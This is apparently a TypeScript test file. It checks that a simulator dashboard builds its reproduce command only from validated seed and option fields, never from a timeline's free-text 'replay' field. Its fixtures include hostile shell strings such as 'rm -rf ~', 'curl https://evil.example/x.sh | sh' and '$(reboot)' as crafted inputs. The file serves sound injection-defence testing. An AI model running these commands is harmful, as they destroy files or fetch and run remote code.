// Goal: the Replay view's reproduce command is built from a timeline header's seed and options and
// never from its `replay` text, so a crafted timeline cannot offer a user a shell command: every
// part is a name orq-sim knows or a whole number in range, and a header whose seed or options are
// anything else gets no command, with a reason naming the part. The command of a real run is the
// one orq-sim writes itself. Method: crafted timelines (a `replay` of `rm -rf ~`, options full of
// shell metacharacters) read through parseTimeline as the view reads them; and, when this run
// built orq-sim (ORQ_SIM_BIN or ../target/debug/orq-sim), its `options` against the names here and
// real runs' headers against the command built from them.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import {
  REPLAY_PREFIX,
  reproduceCommand,
  seedDigits,
  SEED_MAX,
  SIM_FAULT_FAMILIES,
  SIM_PLANTED_BUGS,
  SIM_TASKS_MAX,
  type Reproduce,
} from "../../lib/reproduce";
import { parseTimeline } from "../../lib/timeline";

const SIM_BIN = process.env.ORQ_SIM_BIN ?? join(__dirname, "..", "..", "..", "target", "debug", "orq-sim");

/** The reproduce command of a one-line timeline whose header is `header`, as the view reads it. */
function commandOf(header: Record<string, unknown>): Reproduce {
  const t = parseTimeline(JSON.stringify({ kind: "header", version: 1, ...header }) + "\n");
  assert.deepEqual(t.problems, []);
  return reproduceCommand(t.header);
}

/** Characters a shell gives a meaning: none may reach a command. */
const SHELL = /[;&|`$<>(){}\\'"*?~!#\n\r\t]/;

test("a crafted replay line is never the command: the seed and options make it", () => {
  const r = commandOf({ seed: 42, config: { seed: 42, planted: "none", lossy_restart: false }, replay: "rm -rf ~" });
  assert.deepEqual(r, { ok: true, command: `${REPLAY_PREFIX} --seed 42` });
  const full = commandOf({
    seed: 7,
    config: { seed: 7, planted: "complete_ignores_token", lossy_restart: true, full_check_every: 1, chosen: { families: ["network", "crash"], tasks: 12 } },
    replay: "curl https://evil.example/x.sh | sh",
  });
  assert.deepEqual(full, {
    ok: true,
    command: `${REPLAY_PREFIX} --seed 7 --planted complete_ignores_token --lossy --full-check-every 1 --faults crash,network --tasks 12`,
  });
  // Nothing of the file's replay, no shell metacharacter.
  for (const x of [r, full]) {
    assert.ok(x.ok && !x.command.includes("rm") && !x.command.includes("evil") && !SHELL.test(x.command), JSON.stringify(x));
  }
  // No header: no seed, no command.
  assert.deepEqual(reproduceCommand(parseTimeline('{"t_ms":1,"kind":"queued"}\n').header), {
    ok: false,
    reason: "the file has no header line, so no seed",
  });
});

test("options with shell metacharacters or unknown names leave no command, with the reason", () => {
  const cases: Array<[string, Record<string, unknown>, RegExp]> = [
    ["a seed with a command", { seed: "1; rm -rf ~", config: {} }, /^seed "1; rm -rf ~" is not a whole number/],
    ["a seed in $()", { seed: "$(reboot)", config: {} }, /^seed/],
    ["a negative seed", { seed: -1, config: {} }, /^seed -1/],
    ["a fractional seed", { seed: 1.5, config: {} }, /^seed 1.5/],
    ["a seed past u64", { seed: "18446744073709551616", config: {} }, /^seed/],
    ["a seed the browser rounded", { seed: 2 ** 60, config: {} }, /^seed/],
    ["no seed", { config: {} }, /^seed null/],
    ["a config seed that differs", { seed: 5, config: { seed: 6 } }, /seed 5 and its config's 6 differ/],
    ["a planted bug with a command", { seed: 1, config: { planted: "none; rm -rf ~" } }, /^planted bug "none; rm -rf ~" is not one orq-sim knows/],
    ["a planted bug in backquotes", { seed: 1, config: { planted: "`id`" } }, /^planted bug/],
    ["an unknown planted bug", { seed: 1, config: { planted: "complete_ignores_tokens" } }, /^planted bug/],
    ["a planted bug that is not a string", { seed: 1, config: { planted: ["complete_ignores_token"] } }, /^planted bug/],
    ["a family with a command", { seed: 1, config: { chosen: { families: ["crash", "x && curl evil.example | sh"] } } }, /^fault families/],
    ["a family list as one string", { seed: 1, config: { chosen: { families: "crash,network" } } }, /^fault families/],
    ["a family twice", { seed: 1, config: { chosen: { families: ["crash", "crash"] } } }, /^fault families/],
    ["tasks with a command", { seed: 1, config: { chosen: { tasks: "5 > ~/.bashrc" } } }, /^tasks "5 > ~\/.bashrc"/],
    ["too many tasks", { seed: 1, config: { chosen: { tasks: SIM_TASKS_MAX + 1 } } }, /^tasks 1001 is not a whole number from 1 to 1000/],
    ["no tasks", { seed: 1, config: { chosen: { tasks: 0 } } }, /^tasks 0/],
    ["an option this dashboard does not know", { seed: 1, config: { chosen: { shell: "rm -rf ~" } } }, /^chosen "shell" is not an option/],
    ["chosen as a string", { seed: 1, config: { chosen: "--faults crash; rm -rf ~" } }, /^chosen "--faults crash; rm -rf ~" is not an object/],
    ["lossy as a string", { seed: 1, config: { lossy_restart: "--lossy; rm -rf ~" } }, /^lossy_restart/],
    ["full checks as a string", { seed: 1, config: { full_check_every: "1; rm -rf ~" } }, /^full_check_every/],
  ];
  for (const [what, header, reason] of cases) {
    const r = commandOf({ ...header, replay: "rm -rf ~" });
    assert.equal(r.ok, false, `${what}: ${JSON.stringify(r)}`);
    assert.match(r.ok ? "" : r.reason, reason, what);
  }
  // A long crafted value is quoted cut short.
  const long = commandOf({ seed: 1, config: { planted: "x".repeat(500) } });
  assert.ok(!long.ok && long.reason.length < 120, JSON.stringify(long));
});

test("seeds are whole numbers from 0 to 2^64 - 1, read exactly", () => {
  assert.equal(seedDigits(0), "0");
  assert.equal(seedDigits(Number.MAX_SAFE_INTEGER), String(Number.MAX_SAFE_INTEGER));
  assert.equal(seedDigits(Number.MAX_SAFE_INTEGER + 1), null);
  assert.equal(seedDigits("18446744073709551615"), SEED_MAX.toString());
  assert.equal(seedDigits("007"), "7");
  for (const bad of ["", " 1", "1e3", "0x10", "+1", "-0", "1.0", null, true, {}]) {
    assert.equal(seedDigits(bad), null, JSON.stringify(bad));
  }
  assert.deepEqual(commandOf({ seed: "18446744073709551615", config: { seed: 1 } }).ok, false);
});

test("the names are orq-sim's and a real run's command is the one orq-sim writes", (t) => {
  if (!existsSync(SIM_BIN)) {
    t.skip(`no simulator at ${SIM_BIN}`);
    return;
  }
  const options = JSON.parse(spawnSync(SIM_BIN, ["options"], { encoding: "utf8" }).stdout) as {
    families: string[];
    planted: string[];
    tasks_max: number;
  };
  assert.deepEqual(options, { families: SIM_FAULT_FAMILIES, planted: SIM_PLANTED_BUGS, tasks_max: SIM_TASKS_MAX });
  const dir = mkdtempSync(join(tmpdir(), "orq-reproduce-"));
  try {
    for (const args of [
      ["--seed", "3"],
      ["--seed", "4", "--planted", "lease_ignores_run_at", "--lossy", "--full-check-every", "7", "--faults", "crash,network", "--tasks", "5"],
      ["--seed", "5", "--faults", "none"],
    ]) {
      const file = join(dir, "run.jsonl");
      spawnSync(SIM_BIN, ["run", ...args, "--timeline", file], { encoding: "utf8", timeout: 300_000 });
      const header = parseTimeline(readFileSync(file, "utf8")).header;
      assert.ok(header?.replay, `a header with a replay line: ${args.join(" ")}`);
      assert.deepEqual(reproduceCommand(header), { ok: true, command: header.replay }, args.join(" "));
      rmSync(file);
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
